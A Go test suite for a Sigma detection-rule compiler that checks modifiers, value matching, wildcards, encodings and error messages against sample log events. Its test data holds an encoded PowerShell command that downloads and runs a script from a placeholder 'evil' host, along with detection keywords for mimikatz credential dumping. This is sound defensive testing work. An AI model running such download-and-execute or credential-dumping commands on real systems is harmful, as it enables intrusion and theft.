package sigma

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/mangrove-soc/mangrove/collectors/event"
)

// compileRule compiles one rule document with the default pipeline.
func compileRule(t testing.TB, doc string) (*Rule, error) {
	t.Helper()
	return compileWith(t, defaultCompiler(), doc)
}

func compileWith(t testing.TB, c *Compiler, doc string) (*Rule, error) {
	t.Helper()
	rules, err := c.Load("test.yml", []byte(doc))
	if len(rules) != 1 {
		return nil, err
	}
	return rules[0].(*Rule), err
}

// detectionRule wraps a detection block in a rule whose log source the
// pipeline does not constrain, so only the detection decides.
func detectionRule(detection string) string {
	return "title: test\nlogsource: {category: test_only}\ndetection:\n" + indent(detection) + "\n"
}

func indent(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	for i, l := range lines {
		lines[i] = "    " + l
	}
	return strings.Join(lines, "\n")
}

// jsonEvent decodes one event the way collectors do.
func jsonEvent(t testing.TB, js string) *event.Event {
	t.Helper()
	var d event.Decoder
	ev := &event.Event{}
	if err := d.Decode([]byte(js), ev); err != nil {
		t.Fatalf("decoding %s: %v", js, err)
	}
	return ev
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// quoteJSON returns s as a JSON string literal with every byte that is not
// printable ASCII escaped, so binary test values survive.
func quoteJSON(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20 || r > 0x7e:
			if r > 0xffff {
				b.WriteRune(r)
				continue
			}
			b.WriteString(`\u`)
			const hexd = "0123456789abcdef"
			b.WriteByte(hexd[r>>12&15])
			b.WriteByte(hexd[r>>8&15])
			b.WriteByte(hexd[r>>4&15])
			b.WriteByte(hexd[r&15])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

type matchCase struct {
	name      string
	detection string
	event     string
	want      bool
}

func runMatchCases(t *testing.T, c *Compiler, cases []matchCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r, err := compileWith(t, c, detectionRule(tc.detection))
			if err != nil || r == nil {
				t.Fatalf("compile: %v", err)
			}
			ev := jsonEvent(t, tc.event)
			if got := r.Match(ev); got != tc.want {
				t.Errorf("Match = %v, want %v\ndetection:\n%s\nevent: %s", got, tc.want, tc.detection, tc.event)
			}
		})
	}
}

func TestModifiers(t *testing.T) {
	enc := "powershell -enc " + b64("IEX (New-Object Net.WebClient).DownloadString('http://evil')")
	wide := b64(utf16le("cmd.exe /c ping 127.0.0.1"))
	cases := []matchCase{
		{"plain equal folds case", `s: {Image: 'C:\Windows\System32\CMD.exe'}` + "\ncondition: s", `{"Image":"c:\\windows\\system32\\cmd.exe"}`, true},
		{"plain equal is whole value", `s: {Image: 'cmd.exe'}` + "\ncondition: s", `{"Image":"c:\\cmd.exe"}`, false},
		{"contains", "s: {CommandLine|contains: ' -ENC '}\ncondition: s", `{"CommandLine":"powershell -enc AAA"}`, true},
		{"contains miss", "s: {CommandLine|contains: ' -ENC '}\ncondition: s", `{"CommandLine":"powershell -e AAA"}`, false},
		{"startswith", "s: {Image|startswith: 'C:\\Users\\'}\ncondition: s", `{"Image":"c:\\users\\bob\\a.exe"}`, true},
		{"startswith miss", "s: {Image|startswith: 'C:\\Users\\'}\ncondition: s", `{"Image":"D:\\c:\\users\\a.exe"}`, false},
		{"endswith", "s: {Image|endswith: '\\rundll32.exe'}\ncondition: s", `{"Image":"C:\\Windows\\RUNDLL32.EXE"}`, true},
		{"value list is or", "s: {Image|endswith: ['\\a.exe', '\\b.exe']}\ncondition: s", `{"Image":"C:\\b.exe"}`, true},
		{"all: every value", "s: {CommandLine|contains|all: [' -w hidden', ' -nop']}\ncondition: s", `{"CommandLine":"ps -nop -w hidden"}`, true},
		{"all: one missing", "s: {CommandLine|contains|all: [' -w hidden', ' -nop']}\ncondition: s", `{"CommandLine":"ps -w hidden"}`, false},
		{"all: single value", "s: {CommandLine|contains|all: 'x'}\ncondition: s", `{"CommandLine":"axb"}`, true},
		{"cased hit", "s: {CommandLine|contains|cased: 'Invoke-'}\ncondition: s", `{"CommandLine":"Invoke-Mimikatz"}`, true},
		{"cased miss", "s: {CommandLine|contains|cased: 'Invoke-'}\ncondition: s", `{"CommandLine":"invoke-mimikatz"}`, false},
		{"windash hyphen", "s: {CommandLine|contains|windash: ' -enc '}\ncondition: s", `{"CommandLine":"p -enc x"}`, true},
		{"windash slash", "s: {CommandLine|contains|windash: ' -enc '}\ncondition: s", `{"CommandLine":"p /enc x"}`, true},
		{"windash en dash", "s: {CommandLine|contains|windash: ' -enc '}\ncondition: s", `{"CommandLine":"p \u2013enc x"}`, true},
		{"windash em dash", "s: {CommandLine|contains|windash: ' -enc '}\ncondition: s", `{"CommandLine":"p \u2014enc x"}`, true},
		{"windash horizontal bar", "s: {CommandLine|contains|windash: ' -enc '}\ncondition: s", `{"CommandLine":"p \u2015enc x"}`, true},
		{"windash miss", "s: {CommandLine|contains|windash: ' -enc '}\ncondition: s", `{"CommandLine":"p +enc x"}`, false},
		{"windash two dashes", "s: {CommandLine|contains|windash: '-s -p'}\ncondition: s", `{"CommandLine":"x /s \u2014p"}`, true},
		{"all windash: each value by a variant", "s: {CommandLine|contains|all|windash: ['-a', '-b']}\ncondition: s", `{"CommandLine":"x /a -b"}`, true},
		{"all windash: one missing", "s: {CommandLine|contains|all|windash: ['-a', '-b']}\ncondition: s", `{"CommandLine":"x /a"}`, false},
		{"endswith windash", "s: {CommandLine|endswith|windash: '-x'}\ncondition: s", `{"CommandLine":"a /x"}`, true},
		{"base64", "s: {Payload|base64: 'hello'}\ncondition: s", `{"Payload":"aGVsbG8="}`, true},
		{"base64 is case-sensitive", "s: {Payload|base64: 'hello'}\ncondition: s", `{"Payload":"AGVSBG8="}`, false},
		{"base64|contains", "s: {Payload|base64|contains: 'hello'}\ncondition: s", `{"Payload":"xx aGVsbG8= yy"}`, true},
		{"base64offset offset 0", "s: {CommandLine|base64offset|contains: 'http://'}\ncondition: s", `{"CommandLine":"` + b64("http://evil") + `"}`, true},
		{"base64offset offset 1", "s: {CommandLine|base64offset|contains: 'http://'}\ncondition: s", `{"CommandLine":"` + b64("xhttp://evil") + `"}`, true},
		{"base64offset offset 2", "s: {CommandLine|base64offset|contains: 'http://'}\ncondition: s", `{"CommandLine":"` + b64("xyhttp://evil") + `"}`, true},
		{"base64offset long script", "s: {CommandLine|base64offset|contains: 'DownloadString'}\ncondition: s", `{"CommandLine":"` + enc + `"}`, true},
		{"base64offset miss", "s: {CommandLine|base64offset|contains: 'http://'}\ncondition: s", `{"CommandLine":"` + b64("ftp://evil") + `"}`, false},
		{"wide base64offset", "s: {CommandLine|wide|base64offset|contains: 'ping'}\ncondition: s", `{"CommandLine":"powershell -e ` + wide + `"}`, true},
		{"utf16le raw", "s: {Blob|utf16le|contains: 'ab'}\ncondition: s", `{"Blob":` + quoteJSON("x"+utf16le("ab")+"y") + `}`, true},
		{"utf16be raw", "s: {Blob|utf16be|contains: 'ab'}\ncondition: s", `{"Blob":"x\u0000a\u0000b"}`, true},
		{"re", "s: {CommandLine|re: '\\s-[eE]nc\\s'}\ncondition: s", `{"CommandLine":"ps -Enc x"}`, true},
		{"re is case-sensitive", "s: {CommandLine|re: 'MIMI'}\ncondition: s", `{"CommandLine":"mimikatz"}`, false},
		{"re|i", "s: {CommandLine|re|i: 'MIMI'}\ncondition: s", `{"CommandLine":"mimikatz"}`, true},
		{"re|m", "s: {Text|re|m: '^second$'}\ncondition: s", `{"Text":"first\nsecond\nthird"}`, true},
		{"re without m", "s: {Text|re: '^second$'}\ncondition: s", `{"Text":"first\nsecond\nthird"}`, false},
		{"re|s", "s: {Text|re|s: 'a.b'}\ncondition: s", `{"Text":"a\nb"}`, true},
		{"re without s", "s: {Text|re: 'a.b'}\ncondition: s", `{"Text":"a\nb"}`, false},
		{"re on number", "s: {Port|re: '^44[0-9]$'}\ncondition: s", `{"Port":443}`, true},
		{"cidr v4", "s: {DestinationIp|cidr: '10.0.0.0/8'}\ncondition: s", `{"DestinationIp":"10.20.30.40"}`, true},
		{"cidr v4 miss", "s: {DestinationIp|cidr: '10.0.0.0/8'}\ncondition: s", `{"DestinationIp":"11.0.0.1"}`, false},
		{"cidr list", "s: {DestinationIp|cidr: ['10.0.0.0/8', '192.168.0.0/16']}\ncondition: s", `{"DestinationIp":"192.168.1.1"}`, true},
		{"cidr v6 zone", "s: {DestinationIp|cidr: 'fe80::/10'}\ncondition: s", `{"DestinationIp":"fe80::1%eth0"}`, true},
		{"cidr v4-mapped", "s: {DestinationIp|cidr: '127.0.0.0/8'}\ncondition: s", `{"DestinationIp":"::ffff:127.0.0.1"}`, true},
		{"cidr single address", "s: {DestinationIp|cidr: '8.8.8.8'}\ncondition: s", `{"DestinationIp":"8.8.8.8"}`, true},
		{"cidr not an address", "s: {DestinationIp|cidr: '10.0.0.0/8'}\ncondition: s", `{"DestinationIp":"10.example"}`, false},
		{"not cidr", "s: {DestinationIp|cidr: '10.0.0.0/8'}\ncondition: not s", `{"DestinationIp":"8.8.8.8"}`, true},
		{"exists true", "s: {PasswordLastSet|exists: true}\ncondition: s", `{"PasswordLastSet":null}`, true},
		{"exists true absent", "s: {PasswordLastSet|exists: true}\ncondition: s", `{"Other":1}`, false},
		{"exists false", "s: {PasswordLastSet|exists: false}\ncondition: s", `{"Other":1}`, true},
		{"gt number", "s: {Count|gt: 10}\ncondition: s", `{"Count":11}`, true},
		{"gt equal", "s: {Count|gt: 10}\ncondition: s", `{"Count":10}`, false},
		{"gte equal", "s: {Count|gte: 10}\ncondition: s", `{"Count":10}`, true},
		{"lt numeric string", "s: {Count|lt: 10}\ncondition: s", `{"Count":"9.5"}`, true},
		{"lte", "s: {Count|lte: 10}\ncondition: s", `{"Count":10}`, true},
		{"lt text", "s: {Count|lt: 10}\ncondition: s", `{"Count":"nine"}`, false},
		{"neq differs", "s: {User|neq: 'SYSTEM'}\ncondition: s", `{"User":"bob"}`, true},
		{"neq same", "s: {User|neq: 'SYSTEM'}\ncondition: s", `{"User":"system"}`, false},
		{"neq absent", "s: {User|neq: 'SYSTEM'}\ncondition: s", `{"Other":"x"}`, true},
		{"neq list", "s: {LogonType|neq: [2, 10]}\ncondition: s", `{"LogonType":10}`, false},
		{"fieldref equal", "s: {TargetFilename|fieldref: Image}\ncondition: s", `{"TargetFilename":"C:\\A.exe","Image":"c:\\a.exe"}`, true},
		{"fieldref differ", "s: {TargetFilename|fieldref: Image}\ncondition: s", `{"TargetFilename":"C:\\A.exe","Image":"c:\\b.exe"}`, false},
		{"fieldref absent", "s: {TargetFilename|fieldref: Image}\ncondition: s", `{"TargetFilename":"C:\\A.exe"}`, false},
		{"fieldref cased", "s: {A|fieldref|cased: B}\ncondition: s", `{"A":"X","B":"x"}`, false},
		{"fieldref startswith", "s: {A|fieldref|startswith: B}\ncondition: s", `{"A":"C:\\Dir\\f.exe","B":"c:\\dir"}`, true},
		{"fieldref endswith", "s: {A|endswith|fieldref: B}\ncondition: s", `{"A":"C:\\Dir\\f.exe","B":"F.EXE"}`, true},
		{"fieldref contains", "s: {A|contains|fieldref: B}\ncondition: s", `{"A":"xxabcxx","B":"ABC"}`, true},
		{"fieldref numbers", "s: {A|fieldref: B}\ncondition: s", `{"A":4.0,"B":4}`, true},
		{"fieldref neq", "s: {A|fieldref|neq: B}\ncondition: s", `{"A":"x","B":"y"}`, true},
		{"expand in keywords is a literal percent", "s: {CommandLine|contains: '%COMSPEC%'}\ncondition: s", `{"CommandLine":"x %comspec% /c"}`, true},
	}
	runMatchCases(t, defaultCompiler(), cases)
}

func TestValues(t *testing.T) {
	cases := []matchCase{
		{"number equals number", "s: {EventID: 4688}\ncondition: s", `{"EventID":4688}`, true},
		{"number equals float literal", "s: {EventID: 4688}\ncondition: s", `{"EventID":4688.0}`, true},
		{"number equals string", "s: {EventID: 4688}\ncondition: s", `{"event":{"code":"4688"}}`, true},
		{"number differs", "s: {EventID: 4688}\ncondition: s", `{"EventID":4689}`, false},
		{"hex number as text", "s: {Opts: 0x40810000}\ncondition: s", `{"Opts":"0x40810000"}`, true},
		{"string equals number", "s: {EventID: '4688'}\ncondition: s", `{"EventID":4688}`, true},
		{"number list", "s: {EventID: [1, 4688]}\ncondition: s", `{"EventID":4688}`, true},
		{"bool", "s: {Signed: false}\ncondition: s", `{"Signed":false}`, true},
		{"bool mismatch", "s: {Signed: false}\ncondition: s", `{"Signed":true}`, false},
		{"bool as string", "s: {Signed: false}\ncondition: s", `{"Signed":"False"}`, true},
		{"null: absent", "s: {Parent: null}\ncondition: s", `{"Other":1}`, true},
		{"null: null", "s: {Parent: null}\ncondition: s", `{"Parent":null}`, true},
		{"null: empty list", "s: {Parent: null}\ncondition: s", `{"Parent":[]}`, true},
		{"null: present", "s: {Parent: null}\ncondition: s", `{"Parent":""}`, false},
		{"not null", "s: {Parent: null}\ncondition: not s", `{"Parent":"x"}`, true},
		{"null neq", "s: {Parent|neq: null}\ncondition: s", `{"Parent":"x"}`, true},
		{"empty string", "s: {Desc: ''}\ncondition: s", `{"Desc":""}`, true},
		{"empty string is not absent", "s: {Desc: ''}\ncondition: s", `{"Other":""}`, false},
		{"empty string is not text", "s: {Desc: ''}\ncondition: s", `{"Desc":"x"}`, false},
		{"list field: any element", "s: {Tags: 'EVIL'}\ncondition: s", `{"Tags":["good","evil"]}`, true},
		{"list field: none", "s: {Tags: 'EVIL'}\ncondition: s", `{"Tags":["good"]}`, false},
		{"list field: all by different elements", "s: {Tags|all: ['a', 'b']}\ncondition: s", `{"Tags":["b","a"]}`, true},
		{"list field: all missing one", "s: {Tags|all: ['a', 'b']}\ncondition: s", `{"Tags":["a","c"]}`, false},
		{"nested object field", "s: {process.name: 'cmd.exe'}\ncondition: s", `{"process":{"name":"CMD.EXE"}}`, true},
		{"unicode fold", "s: {User|contains: 'NGUYỄN'}\ncondition: s", `{"User":"ông nguyễn văn a"}`, true},
		{"unicode fold endswith", "s: {User|endswith: 'ÄÖ'}\ncondition: s", `{"User":"xäö"}`, true},
		{"unicode fold glob", "s: {User: 'É*Z?'}\ncondition: s", `{"User":"éxyzw"}`, true},
		{"keywords in message", "k: ['mimikatz', 'sekurlsa']\ncondition: k", `{"message":"running SEKURLSA::logonpasswords"}`, true},
		{"keywords miss", "k: ['mimikatz', 'sekurlsa']\ncondition: k", `{"message":"hello"}`, false},
		{"keywords only message when present", "k: ['mimikatz']\ncondition: k", `{"message":"hello","Image":"mimikatz.exe"}`, false},
		{"keywords NXLog Message", "k: ['mimikatz']\ncondition: k", `{"Message":"mimikatz ran"}`, true},
		{"keywords without message: all strings", "k: ['mimikatz']\ncondition: k", `{"Event":{"EventData":{"Image":"C:\\mimikatz.exe"}}}`, true},
		{"keywords without message: list element", "k: ['mimikatz']\ncondition: k", `{"Data":["a","x mimikatz"]}`, true},
		{"keywords with wildcard", "k: ['evil*.exe']\ncondition: k", `{"message":"ran EVIL123.exe now"}`, true},
		{"keyword numbers", "k: [4444]\ncondition: k", `{"message":"port 4444 open"}`, true},
		{"keywords all", "k: {'|all': ['OabVirtualDirectory', ' -ExternalUrl ']}\ncondition: k", `{"message":"Set-OabVirtualDirectory -ExternalUrl x"}`, true},
		{"keywords all missing", "k: {'|all': ['OabVirtualDirectory', ' -ExternalUrl ']}\ncondition: k", `{"message":"Set-OabVirtualDirectory"}`, false},
		{"keywords all across fields", "k: {'|all': ['alpha', 'beta']}\ncondition: k", `{"A":"alpha","B":"beta"}`, true},
		{"keyword scalar", "k: 'needle'\ncondition: k", `{"message":"hay NEEDLE hay"}`, true},
		{"keyword and map in one list", "s:\n  - 'needle'\n  - {Image: 'x.exe'}\ncondition: s", `{"Image":"X.EXE"}`, true},
		{"keyword re", "k: {'|re': 'a[0-9]+b'}\ncondition: k", `{"message":"xx a123b"}`, true},
		{"list of maps is or", "s:\n  - {Image|endswith: '\\a.exe'}\n  - {OriginalFileName: 'a.exe'}\ncondition: s", `{"OriginalFileName":"A.EXE","Image":"C:\\renamed.exe"}`, true},
		{"map is and", "s: {Image|endswith: '\\a.exe', User: bob}\ncondition: s", `{"Image":"C:\\a.exe","User":"alice"}`, false},
		{"evtx shape via templates", "s: {CommandLine|contains: 'whoami'}\ncondition: s", `{"Event":{"EventData":{"CommandLine":"cmd /c whoami"}}}`, true},
		{"winlogbeat shape via templates", "s: {CommandLine|contains: 'whoami'}\ncondition: s", `{"winlog":{"event_data":{"CommandLine":"cmd /c whoami"}}}`, true},
	}
	runMatchCases(t, defaultCompiler(), cases)
}

func TestWildcardsAndEscapes(t *testing.T) {
	cases := []struct {
		value string // as the rule writes it (YAML single-quoted)
		text  string // event text
		want  bool
	}{
		{`*\cmd.exe`, `C:\Windows\cmd.exe`, true},
		{`*\cmd.exe`, `C:\Windows\xcmd.exe`, false},
		{`C:\Windows\*`, `c:\windows\x`, false}, // \* is an escaped star
		{`C:\Windows\*`, `c:\windows*`, true},
		{`C:\\Windows\\*`, `c:\windows\x`, true}, // \\ is one backslash
		{`prog?.exe`, `progA.exe`, true},
		{`prog?.exe`, `prog.exe`, false},
		{`prog?.exe`, `progAB.exe`, false},
		{`prog?.exe`, `progé.exe`, true}, // ? is one character, not one byte
		{`a*b*c`, `aXXbYYc`, true},
		{`a*b*c`, `aXXcYYb`, false},
		{`*a*b*`, `xxbxxaxxbxx`, true},
		{`a*`, `a`, true},
		{`*`, ``, true},
		{`**x`, `yyx`, true},
		{`\*`, `*`, true},
		{`\*`, `x`, false},
		{`a\?b`, `a?b`, true},
		{`a\?b`, `axb`, false},
		{`\\*`, `\anything`, true}, // escaped backslash, then a wildcard
		{`\\\*`, `\*`, true},       // escaped backslash, escaped star
		{`\\\*`, `\x`, false},      // ... so no wildcard
		{`\\\\`, `\\`, true},       // four backslashes are two
		{`\\\`, `\\`, true},        // three backslashes are two
		{`C:\Temp\`, `c:\temp\`, true},
		{`%APPDATA%\x`, `%appdata%\x`, true}, // placeholders are literal without expand
		{`?`, ``, false},
		{`x*y?z`, `xAAAy1z`, true},
		{`x*y?z`, `xAAAyz`, false},
		{`*.EXE`, `a.exe`, true},
	}
	for _, tc := range cases {
		t.Run(tc.value+"~"+tc.text, func(t *testing.T) {
			p := compilePattern(parseString(tc.value, false), false)
			st := getState(nil)
			defer putState(st)
			h := makeHay(&event.Value{Kind: event.String, Str: tc.text})
			if got := p.match(st, &h); got != tc.want {
				t.Errorf("%q matching %q = %v, want %v (parsed %q)", tc.value, tc.text, got, tc.want, parseString(tc.value, false).String())
			}
		})
	}
}

func TestPatternShapes(t *testing.T) {
	cases := []struct {
		value string
		shape shape
		fold  foldMode
		lit   string
	}{
		{`Abc`, shExact, foldASCII, "abc"},
		{`Abc*`, shPrefix, foldASCII, "abc"},
		{`*Abc`, shSuffix, foldASCII, "abc"},
		{`*Abc*`, shContains, foldASCII, "abc"},
		{`*`, shAny, foldASCII, ""},
		{`a*b`, shGlob, foldASCII, ""},
		{`*Ä*`, shContains, foldUnicode, "Ä"},
		{`*–x*`, shContains, foldASCII, "–x"}, // dashes have no case
	}
	for _, tc := range cases {
		p := compilePattern(parseString(tc.value, false), false)
		if p.shape != tc.shape || p.fold != tc.fold || p.lit != tc.lit {
			t.Errorf("%q: shape %d fold %d lit %q, want %d %d %q", tc.value, p.shape, p.fold, p.lit, tc.shape, tc.fold, tc.lit)
		}
	}
}

func TestTransforms(t *testing.T) {
	// base64offset as pySigma computes it.
	got, err := encodeBase64Offset(literal("/c "))
	if err != nil {
		t.Fatal(err)
	}
	var texts []string
	for _, v := range got {
		s, _ := v.plain()
		texts = append(texts, s)
	}
	if want := "L2Mg|9jI|vYy"; strings.Join(texts, "|") != want {
		t.Errorf("base64offset(/c ) = %v, want %s", texts, want)
	}
	if s, _ := encodeUTF16(literal("cmd"), utf16BOM).plain(); s != "\xff\xfec\x00m\x00d\x00" {
		t.Errorf("utf16 = %q", s)
	}
	if s, _ := encodeUTF16(literal("cmd"), utf16BE).plain(); s != "\x00c\x00m\x00d" {
		t.Errorf("utf16be = %q", s)
	}
	vs, err := windash(parseString("a-b/c", false))
	if err != nil || len(vs) != 25 {
		t.Errorf("windash(a-b/c) = %d variants, %v; want 25", len(vs), err)
	}
	vs, err = windash(parseString(strings.Repeat("-", 6), false))
	if err == nil {
		t.Errorf("windash of 6 dashes gave %d variants, want the MaxVariants error", len(vs))
	}
	out, err := expand(parseString(`\%x%admins%*`, true), map[string][]string{"admins": {"adm_*", "root"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 2 || out[0].String() != `%xadm_*` || out[1].String() != `%xroot*` {
		t.Errorf("expand = %v", out)
	}
}

func TestExpandWithPipeline(t *testing.T) {
	p, err := ParsePipeline([]byte("placeholders:\n  Administrators: ['adm_*', 'Administrator']\n"))
	if err != nil {
		t.Fatal(err)
	}
	c := NewCompiler(p)
	runMatchCases(t, c, []matchCase{
		{"expand wildcard value", "s: {User|expand: '%Administrators%'}\ncondition: s", `{"User":"ADM_bob"}`, true},
		{"expand literal value", "s: {User|expand: '%Administrators%'}\ncondition: s", `{"User":"administrator"}`, true},
		{"expand miss", "s: {User|expand: '%Administrators%'}\ncondition: s", `{"User":"bob"}`, false},
		{"expand with contains", "s: {CommandLine|contains|expand: 'runas /user:%Administrators%'}\ncondition: s", `{"CommandLine":"x runas /user:Administrator y"}`, true},
	})
	if _, err := compileRule(t, detectionRule("s: {User|expand: '%Administrators%'}\ncondition: s")); err == nil || !strings.Contains(err.Error(), "%Administrators% has no values") {
		t.Errorf("default pipeline: err = %v, want an undefined placeholder error", err)
	}
}

func TestCompileErrors(t *testing.T) {
	cases := []struct {
		name, detection, want string
	}{
		{"unknown modifier", "s: {A|containz: x}\ncondition: s", `unknown modifier "containz"`},
		{"empty modifier", "s: {A||contains: x}\ncondition: s", "empty modifier"},
		{"re flag without re", "s: {A|contains|i: x}\ncondition: s", `modifier "i" is only valid after re`},
		{"two types", "s: {A|re|cidr: x}\ncondition: s", "cidr cannot be combined with re"},
		{"two anchors", "s: {A|contains|startswith: x}\ncondition: s", "startswith cannot be combined with contains"},
		{"re with transform", "s: {A|re|windash: x}\ncondition: s", "re cannot be combined with windash"},
		{"cidr with anchor", "s: {A|cidr|contains: 10.0.0.0/8}\ncondition: s", "cidr cannot be combined with contains"},
		{"repeated", "s: {A|contains|contains: x}\ncondition: s", `modifier "contains" repeated`},
		{"time modifier needs a whole number", "s: {T|hour: 3.5}\ncondition: s", "hour needs a whole number"},
		{"time modifier with a type", "s: {T|hour|gt: 3}\ncondition: s", "gt cannot be combined with hour"},
		{"base64 of wildcard", "s: {A|contains|base64: x}\ncondition: s", "base64: value must not contain wildcards"},
		{"base64offset too short", "s: {A|base64offset: ''}\ncondition: s", "too short"},
		{"bad regexp", "s: {A|re: '(?!x)'}\ncondition: s", "invalid regular expression"},
		{"bad cidr", "s: {A|cidr: 10.0.0.0/33}\ncondition: s", "invalid CIDR network"},
		{"lt needs number", "s: {A|lt: abc}\ncondition: s", "lt needs a number"},
		{"exists needs bool", "s: {A|exists: 'yes'}\ncondition: s", "exists takes one value, true or false"},
		{"exists with neq", "s: {A|exists|neq: true}\ncondition: s", "exists cannot be combined with all or neq"},
		{"null in list", "s: {A: ['', null]}\ncondition: s", "null cannot be part of a list"},
		{"null with modifier", "s: {A|contains: null}\ncondition: s", "null cannot take modifiers"},
		{"empty list", "s: {A: []}\ncondition: s", "empty list of values"},
		{"nested list", "s: {A: [[x]]}\ncondition: s", "a value must be a string, number, boolean or null, not a list"},
		{"map value", "s: {A: {b: c}}\ncondition: s", "not a mapping"},
		{"empty selection", "s: {}\ncondition: s", "empty selection"},
		{"null selection", "s:\ncondition: s", "search identifier has no value"},
		{"keyword exists", "s: {'|exists': true}\ncondition: s", "exists needs a field name"},
		{"fieldref no name", "s: {A|fieldref: ''}\ncondition: s", "fieldref needs a field name"},
		{"unknown identifier", "s: {A: x}\ncondition: s and t", `unknown search identifier "t"`},
		{"pattern matches nothing", "s: {A: x}\ncondition: 1 of filter_*", `"filter_*" matches no search identifier`},
		{"missing condition", "s: {A: x}", "detection.condition: is required"},
		{"aggregation", "s: {A: x}\ncondition: s | count() > 5", "aggregations (| count() ...) are Sigma v1 correlation syntax"},
		{"timeframe", "s: {A: x}\ntimeframe: 5m\ncondition: s", "timeframe belongs to the Sigma v1 aggregation syntax"},
		{"condition type", "s: {A: x}\ncondition: {a: b}", "must be a string or a list of strings"},
		{"duplicate key", "s: {A: x, A: y}\ncondition: s", "key defined twice"},
		{"unexpanded placeholder", "s: {A|expand: '%p%'}\ncondition: s", "placeholder %p% has no values"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r, err := compileRule(t, detectionRule(tc.detection))
			if r != nil || err == nil {
				t.Fatalf("compiled; want error containing %q", tc.want)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q\nwant it to contain %q", err, tc.want)
			}
			if !strings.HasPrefix(err.Error(), "test.yml: detection") {
				t.Errorf("error %q does not start with the file and YAML path", err)
			}
		})
	}
}

func TestMatcherBudget(t *testing.T) {
	var b strings.Builder
	b.WriteString("s:\n  CommandLine|contains|windash:\n")
	for i := range 200 {
		fmt.Fprintf(&b, "    - '-a%d -b -c -d -e'\n", i) // 5^5 = 3125 variants each
	}
	b.WriteString("condition: s")
	_, err := compileRule(t, detectionRule(b.String()))
	if err == nil || !strings.Contains(err.Error(), "expands to more than 100000 values") || strings.Count(err.Error(), "\n") != 0 {
		t.Errorf("err = %v, want one budget error", err)
	}
}
